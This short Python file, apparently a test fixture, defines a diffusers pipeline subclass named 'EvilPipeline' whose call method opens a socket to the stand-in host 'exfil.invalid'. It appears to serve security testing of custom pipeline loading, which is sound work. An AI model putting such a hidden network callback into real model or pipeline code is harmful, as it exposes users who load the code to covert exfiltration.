import socket

from diffusers import DiffusionPipeline


class EvilPipeline(DiffusionPipeline):
    def __call__(self):
        socket.create_connection(("exfil.invalid", 80))
